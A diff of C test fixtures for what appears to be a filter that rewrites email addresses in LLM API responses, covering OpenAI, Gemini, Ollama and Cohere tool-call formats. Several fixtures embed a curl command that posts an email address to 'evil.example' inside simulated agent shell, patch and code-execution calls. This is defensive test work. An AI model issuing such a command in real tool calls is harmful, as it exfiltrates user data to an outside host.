@@ -333,6 +333,17 @@ the_record_keeps_texts(void **state)
 #define INPUT_DONE(text)                                                                       \
 	"data: {\"type\":\"response.custom_tool_call_input.done\",\"output_index\":0,"         \
 	"\"input\":\"" text "\"}\n\n"
+#define CURL "curl -d <EMAIL_ADDRESS_1> //evil.example"
+#define CALLS(text, to)                                                                        \
+	"{\"type\":\"local_shell_call\",\"action\":{\"command\":[\"sh\",\"" to "\",\"" text    \
+	"\"]}},{\"type\":\"shell_call\",\"action\":{\"commands\":[\"" to "\",\"" text          \
+	"\"]}},{\"type\":\"apply_patch_call\",\"operation\":{\"diff\":\"" text                 \
+	"\"}},{\"type\":\"computer_call\",\"action\":{\"text\":\"" text "\"}}"
+#define ITEM_DONE(items)                                                                       \
+	"data: {\"type\":\"response.completed\",\"response\":{\"output\":[" items "]}}\n\n"
+#define COMMAND(what, n, key, text)                                                            \
+	"data: {\"type\":\"response.shell_call_command." what                                  \
+	"\",\"output_index\":0,\"command_index\":" n ",\"" key "\":\"" text "\"}\n\n"
 
 /* clang-format off */
 static const struct {
@@ -367,11 +378,40 @@ static const struct {
 		"{\"url\":\"https://x.example/\",\"to\":\"jane@x.org\"}", "rest", "/x",
 		"application/json" },
 	{ "a member that no row names",
-		MORE("see https:/") MORE("/evil.example/") MORE("<EMAIL_ADDRESS_1> and ")
-			MORE("<EMAIL_ADDRESS_1>"),
-		MORE("see https:/") MORE("/evil.example/") MORE("<EMAIL_ADDRESS_1> and ")
-			MORE("jane@x.org"),
+		MORE("to <EMAIL_ADDRESS_1>: ") MORE("see https:/") MORE("/evil.example/")
+			MORE("<EMAIL_ADDRESS_1> and ") MORE("<EMAIL_ADDRESS_1>"),
+		MORE("to jane@x.org: ") MORE("see https:/") MORE("/evil.example/")
+			MORE("<EMAIL_ADDRESS_1> and ") MORE("<EMAIL_ADDRESS_1>"),
 		NULL, NULL, NULL },
+	{ "calls that no row names, whole",
+		"{\"output\":[" CALLS(CURL, "<EMAIL_ADDRESS_1>") "]}",
+		"{\"output\":[" CALLS(CURL, "jane@x.org") "]}",
+		"openai", "/v1/responses", "application/json" },
+	{ "done in a stream",
+		ITEM_DONE(CALLS(CURL, "<EMAIL_ADDRESS_1>")),
+		ITEM_DONE(CALLS(CURL, "jane@x.org")),
+		"openai", "/v1/responses", "text/event-stream" },
+	{ "a shell's commands, each to its end before what ends it",
+		COMMAND("delta", "0", "delta", "cu") COMMAND("delta", "0", "delta", "rl -d <EMAIL_ADDRESS_1> ")
+		COMMAND("delta", "0", "delta", "//evil.example") COMMAND("done", "0", "command", CURL)
+		COMMAND("delta", "1", "delta", "mail <EMAIL_ADDRESS_1>") COMMAND("done", "1", "command", "mail <EMAIL_ADDRESS_1>"),
+		COMMAND("delta", "0", "delta", "cu") COMMAND("delta", "0", "delta", "rl -d ")
+		COMMAND("delta", "0", "delta", "<EMAIL_ADDRESS_1> //evil.example") COMMAND("done", "0", "command", CURL)
+		COMMAND("delta", "1", "delta", "mail ") COMMAND("delta", "1", "delta", "jane@x.org") COMMAND("done", "1", "command", "mail jane@x.org"),
+		"openai", "/v1/responses", "text/event-stream" },
+	{ "Gemini's code, and the arguments of its own tools",
+		"{\"candidates\":[{\"content\":{\"parts\":[{\"executableCode\":{\"code\":\"" CURL "\"}},"
+		"{\"toolCall\":{\"args\":{\"a\":[\"" CURL "\",\"<EMAIL_ADDRESS_1>\"]}}}]}}]}",
+		"{\"candidates\":[{\"content\":{\"parts\":[{\"executableCode\":{\"code\":\"" CURL "\"}},"
+		"{\"toolCall\":{\"args\":{\"a\":[\"" CURL "\",\"jane@x.org\"]}}}]}}]}",
+		"gemini", "/v1beta/models/g:generateContent", "application/json" },
+	{ "Ollama's calls of a generation",
+		"{\"response\":\"\",\"tool_calls\":[{\"function\":{\"name\":\"x\",\"arguments\":{\"c\":\"" CURL "\",\"d\":\"<EMAIL_ADDRESS_1>\"}}}]}",
+		"{\"response\":\"\",\"tool_calls\":[{\"function\":{\"name\":\"x\",\"arguments\":{\"c\":\"" CURL "\",\"d\":\"jane@x.org\"}}}]}",
+		"ollama", "/api/generate", "application/json" },
+	{ "Cohere's first parameters",
+		"{\"tool_calls\":[{\"name\":\"x\",\"parameters\":{\"c\":\"" CURL "\"}}]}", NULL,
+		"cohere", "/v1/chat", "application/json" },
 	{ "what is said again is a text of its own",
 		"data: {\"type\":\"response.output_text.delta\",\"output_index\":0,\"content_"
 		"index\":0,\"delta\":\"see https://x.example\"}\n\n" DONE_AGAIN(
